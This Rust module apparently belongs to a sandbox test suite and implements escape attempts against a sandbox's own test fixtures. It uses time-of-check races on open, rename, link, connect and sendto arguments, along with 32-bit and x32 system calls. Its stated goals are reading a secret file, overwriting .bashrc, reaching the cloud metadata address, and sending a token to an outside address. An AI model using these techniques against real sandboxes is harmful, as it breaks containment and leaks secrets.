//! What a call is given is exchanged by somebody else while it is looked at; and calls of another architecture.

use std::fs;
use std::sync::atomic::{AtomicBool, AtomicU8, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use super::sockets::{self, Address};
use super::{Deed, Harm, Impossible, lineage};
use crate::Failure;
use crate::kernel::{c_path, checked, owned, syscall};
use crate::stage::Stage;

/// Children that try: each may be killed.
const CHILDREN: usize = 24;
/// What each tries.
const TRIES: usize = 1000;
/// And for how long at least.
const WHILE: Duration = Duration::from_millis(200);
/// Turns for which each word is shown.
const DWELL: usize = 200;

pub(super) const DEEDS: &[Deed] = &[
    Deed::new(
        "race-path",
        &["6.21", "2.11 TOCTOU"],
        "another thread exchanges the path of an open",
        Harm::Leak,
        path,
    ),
    Deed::new(
        "race-symlink",
        &["6.21", "2.11 TOCTOU"],
        "another process exchanges a symbolic link",
        Harm::Leak,
        link,
    ),
    Deed::new(
        "race-rename",
        &["6.21", "2.11 TOCTOU"],
        "another thread exchanges the new name of a rename",
        Harm::Written(".bashrc"),
        rename,
    )
    .luck(),
    Deed::new(
        "race-hard-link",
        &["6.21", "6.24"],
        "another thread exchanges the old name of a link",
        Harm::Leak,
        hard_link,
    )
    .luck(),
    Deed::new(
        "race-address",
        &["6.21", "2.11 TOCTOU"],
        "another thread exchanges the address of a connect",
        Harm::Contact("metadata"),
        address,
    ),
    Deed::new(
        "race-datagram",
        &["6.21", "2.11 TOCTOU"],
        "another thread exchanges the address of a sendto",
        Harm::Contact("abroad-udp"),
        datagram,
    ),
    Deed::new("compat-open", &["6.20", "2.11 32-bit syscalls"], "open by int 0x80", Harm::Leak, compat_open)
        .unless("another architecture, or a kernel without 32-bit calls"),
    Deed::new(
        "compat-rename",
        &["6.20", "6.40"],
        "rename by int 0x80",
        Harm::Written(".bashrc"),
        compat_rename,
    )
    .unless("another architecture, or a kernel without 32-bit calls"),
    Deed::new("compat-connect", &["6.20"], "connect by int 0x80", Harm::Contact("metadata"), compat_connect)
        .unless("another architecture, or a kernel without 32-bit calls"),
    Deed::new("x32-open", &["6.20"], "open by an x32 call", Harm::Leak, x32_open)
        .unless("another architecture, or a kernel without x32"),
];

/// Bytes that one thread reads while another one writes them: two words of one length, in turn.
struct Flicker<'a> {
    shown: Vec<AtomicU8>,
    words: [&'a [u8]; 2],
    begun: AtomicBool,
    over: AtomicBool,
}

impl<'a> Flicker<'a> {
    fn new(words: [&'a [u8]; 2]) -> Self {
        let shown = words[0].iter().map(|byte| AtomicU8::new(*byte)).collect();
        Self { shown, words, begun: AtomicBool::new(false), over: AtomicBool::new(false) }
    }

    fn pointer(&self) -> *const u8 {
        self.shown.as_ptr().cast()
    }

    /// Acts until that says that it is enough, or was often enough, while the words are exchanged.
    fn during(&self, mut act: impl FnMut() -> bool) {
        thread::scope(|scope| {
            scope.spawn(|| {
                self.begun.store(true, Ordering::Relaxed);
                while !self.over.load(Ordering::Relaxed) {
                    for word in [self.words[1], self.words[0]] {
                        for (place, byte) in self.shown.iter().zip(word) {
                            place.store(*byte, Ordering::Relaxed);
                        }
                        // Whole words are shown longer than mixtures of two.
                        (0..DWELL).for_each(|_| std::hint::spin_loop());
                    }
                }
            });
            while !self.begun.load(Ordering::Relaxed) {
                thread::yield_now();
            }
            let begin = Instant::now();
            // Often enough, and long enough for the other thread to have begun.
            let _ = (0_usize..).any(|tries| act() || (tries >= TRIES && begin.elapsed() >= WHILE));
            self.over.store(true, Ordering::Relaxed);
        });
    }
}

/// Tries in many children, because each may be killed for it.
fn in_children(stage: &Stage, act: impl Fn() -> Result<(), Failure>) -> Result<(), Failure> {
    for _ in 0..CHILDREN {
        lineage::child(&act).ok();
        if fs::metadata(&stage.loot)?.len() > 0 {
            break;
        }
    }
    Ok(())
}

/// The secret, and a name of the same length that leads to something harmless.
fn two_paths(stage: &Stage) -> Result<[Vec<u8>; 2], Failure> {
    let secret = c_path(&stage.secret)?.into_bytes_with_nul();
    let stem = stage.in_project("");
    let name = "h".repeat(secret.len() - 1 - stem.as_os_str().len());
    let harmless = stage.in_project(&name);
    fs::write(&harmless, "harmless\n")?;
    Ok([c_path(harmless)?.into_bytes_with_nul(), secret])
}

fn path(stage: &Stage) -> Result<(), Failure> {
    let [harmless, secret] = two_paths(stage)?;
    in_children(stage, || {
        let flicker = Flicker::new([&harmless, &secret]);
        flicker.during(|| {
            let pointer = flicker.pointer();
            // SAFETY: whatever the bytes are at that moment, the last of them is zero.
            let fd = unsafe { syscall!(libc::SYS_openat, libc::AT_FDCWD, pointer, libc::O_RDONLY, 0) };
            take(stage, fd)
        });
        Ok(())
    })
}

/// Takes what a descriptor leads to, unless it is the harmless file.
fn take(stage: &Stage, fd: std::io::Result<i64>) -> bool {
    let Ok(mut file) = fd.and_then(owned).map(fs::File::from) else { return false };
    let mut bytes = Vec::new();
    std::io::Read::read_to_end(&mut file, &mut bytes).is_ok()
        && !bytes.starts_with(b"harmless")
        && stage.take(&bytes).is_ok()
}

fn link(stage: &Stage) -> Result<(), Failure> {
    let (name, spare) = (stage.in_project("link"), stage.in_project("spare"));
    let harmless = stage.in_project("harmless");
    fs::write(&harmless, "harmless\n")?;
    in_children(stage, || {
        for try_ in 0..TRIES / 2 {
            let target = if try_ % 2 == 0 { &harmless } else { &stage.secret };
            std::os::unix::fs::symlink(target, &spare)?;
            fs::rename(&spare, &name)?;
            let bytes = fs::read(&name)?;
            if !bytes.starts_with(b"harmless") {
                return Ok(stage.take(&bytes)?);
            }
        }
        Ok(())
    })
}

fn rename(stage: &Stage) -> Result<(), Failure> {
    // Of the same length.
    let startup = c_path(format!("{}/./.bashrc", stage.home.display()))?.into_bytes_with_nul();
    let harmless = c_path(stage.in_project("x"))?.into_bytes_with_nul();
    let new = stage.in_project("new");
    let from = c_path(&new)?;
    in_children(stage, || {
        let flicker = Flicker::new([&harmless, &startup]);
        flicker.during(|| {
            if fs::write(&new, &stage.token).is_err() {
                return true;
            }
            // SAFETY: the first is a C string; of the second, the last byte is zero whatever the others are.
            unsafe { libc::rename(from.as_ptr(), flicker.pointer().cast()) };
            fs::read_to_string(stage.in_home(".bashrc")).is_ok_and(|content| content == stage.token)
        });
        Ok(())
    })
}

fn hard_link(stage: &Stage) -> Result<(), Failure> {
    let [harmless, secret] = two_paths(stage)?;
    in_children(stage, || {
        let flicker = Flicker::new([&harmless, &secret]);
        let mut twins = 0;
        flicker.during(|| {
            // Another name each time: to remove very many files is a matter of its own.
            twins += 1;
            let twin = stage.in_project(&format!("twin-{}-{twins}", std::process::id()));
            let Ok(to) = c_path(&twin) else { return true };
            // SAFETY: of the first, the last byte is zero whatever the others are; the second is a C string.
            unsafe { libc::link(flicker.pointer().cast(), to.as_ptr()) };
            fs::read(&twin).is_ok_and(|bytes| !bytes.starts_with(b"harmless") && stage.take(&bytes).is_ok())
        });
        Ok(())
    })
}

/// Two addresses as bytes.
fn two_addresses(harmless: &str, wanted: &str) -> Result<[Vec<u8>; 2], Failure> {
    let bytes = |text| {
        let address = Address::of(text)?;
        // SAFETY: an address is plain bytes, as many as it says.
        let bytes =
            unsafe { std::slice::from_raw_parts(address.pointer().cast(), address.length() as usize) };
        Ok::<Vec<u8>, Failure>(bytes.to_vec())
    };
    Ok([bytes(harmless)?, bytes(wanted)?])
}

fn address(stage: &Stage) -> Result<(), Failure> {
    let [harmless, wanted] = two_addresses("127.0.0.1:9", "169.254.169.254:80")?;
    lineage::child(|| {
        let flicker = Flicker::new([&harmless, &wanted]);
        flicker.during(|| {
            let Ok(socket) = sockets::stream(libc::AF_INET, 0) else { return true };
            let (fd, length) = (std::os::fd::AsRawFd::as_raw_fd(&socket), harmless.len() as u32);
            // SAFETY: the bytes live and are as many as given, an address or a mixture of two.
            let connected = checked(unsafe { libc::connect(fd, flicker.pointer().cast(), length) });
            // Nobody listens at the harmless one.
            connected.is_ok() && sockets::send(&socket, stage.token.as_bytes()).is_ok()
        });
        Ok(())
    })
}

fn datagram(stage: &Stage) -> Result<(), Failure> {
    let [harmless, wanted] = two_addresses("127.0.0.1:9", "203.0.113.7:8000")?;
    lineage::child(|| {
        let flicker = Flicker::new([&harmless, &wanted]);
        let socket = sockets::datagram(libc::AF_INET)?;
        let (fd, length) = (std::os::fd::AsRawFd::as_raw_fd(&socket), harmless.len() as u32);
        flicker.during(|| {
            let (bytes, to) = (stage.token.as_bytes(), flicker.pointer().cast());
            // SAFETY: both live and are as long as given; the address may be a mixture of two.
            unsafe { libc::sendto(fd, bytes.as_ptr().cast(), bytes.len(), 0, to, length) };
            false
        });
        Ok(())
    })
}

/// A 32-bit system call. What it is pointed to must lie in the lowest four gibibytes.
#[cfg(target_arch = "x86_64")]
fn compat(number: u32, one: u32, two: u32, three: u32) -> std::io::Result<i64> {
    let result: i32;
    // SAFETY: the callers pass what the call wants; the kernel keeps all other registers but r8 to r11.
    unsafe {
        std::arch::asm!(
            "xchg {one:r}, rbx",
            "int 0x80",
            "xchg {one:r}, rbx",
            one = inout(reg) u64::from(one) => _,
            inout("eax") number => result,
            in("ecx") two,
            in("edx") three,
            out("r8") _, out("r9") _, out("r10") _, out("r11") _,
        );
    }
    if result < 0 { Err(std::io::Error::from_raw_os_error(-result)) } else { Ok(result.into()) }
}

#[cfg(not(target_arch = "x86_64"))]
fn compat(_: u32, _: u32, _: u32, _: u32) -> std::io::Result<i64> {
    Err(std::io::Error::from_raw_os_error(libc::ENOSYS))
}

/// Bytes at an address that fits into 32 bits.
fn low(bytes: &[u8]) -> Result<u32, Failure> {
    #[cfg(target_arch = "x86_64")]
    const LOW: i32 = libc::MAP_32BIT;
    #[cfg(not(target_arch = "x86_64"))]
    const LOW: i32 = 0;
    let (nowhere, access) = (std::ptr::null_mut(), libc::PROT_READ | libc::PROT_WRITE);
    let flags = libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | LOW;
    // SAFETY: a new mapping at a place of the kernel's choosing.
    let place = unsafe { libc::mmap(nowhere, bytes.len(), access, flags, -1, 0) };
    if place == libc::MAP_FAILED {
        return Err(std::io::Error::last_os_error().into());
    }
    // SAFETY: the mapping is at least this long, and ours to write.
    unsafe { std::ptr::copy_nonoverlapping(bytes.as_ptr(), place.cast(), bytes.len()) };
    u32::try_from(place as usize).map_err(|_| Impossible("there is no low memory".into()).into())
}

fn compat_open(stage: &Stage) -> Result<(), Failure> {
    let path = low(&c_path(&stage.secret)?.into_bytes_with_nul())?;
    let fd = super::if_there("int 0x80", compat(5, path, 0, 0))?;
    if take(stage, Ok(fd)) { Ok(()) } else { Err("nothing was read".into()) }
}

fn compat_rename(stage: &Stage) -> Result<(), Failure> {
    let new = stage.in_project("new");
    fs::write(&new, &stage.token)?;
    let from = low(&c_path(new)?.into_bytes_with_nul())?;
    let to = low(&c_path(stage.in_home(".bashrc"))?.into_bytes_with_nul())?;
    super::if_there("int 0x80", compat(38, from, to, 0)).map(drop)
}

fn compat_connect(stage: &Stage) -> Result<(), Failure> {
    let to = Address::of("169.254.169.254:80")?;
    // SAFETY: an address is plain bytes, as many as it says.
    let bytes = unsafe { std::slice::from_raw_parts(to.pointer().cast(), to.length() as usize) };
    let socket = sockets::stream(libc::AF_INET, 0)?;
    let fd = std::os::fd::AsRawFd::as_raw_fd(&socket).cast_unsigned();
    super::if_there("int 0x80", compat(362, fd, low(bytes)?, to.length()))?;
    Ok(sockets::send(&socket, stage.token.as_bytes())?)
}

fn x32_open(stage: &Stage) -> Result<(), Failure> {
    const X32: i64 = 0x4000_0000;
    if cfg!(not(target_arch = "x86_64")) {
        return Err(Impossible("there is no x32 here".into()).into());
    }
    let path = c_path(&stage.secret)?;
    let number = libc::SYS_openat | X32;
    // SAFETY: the path is a C string that lives.
    let fd = unsafe { syscall!(number, libc::AT_FDCWD, path.as_ptr(), libc::O_RDONLY, 0) };
    let fd = super::if_there("x32 call", fd)?;
    if take(stage, Ok(fd)) { Ok(()) } else { Err("nothing was read".into()) }
}
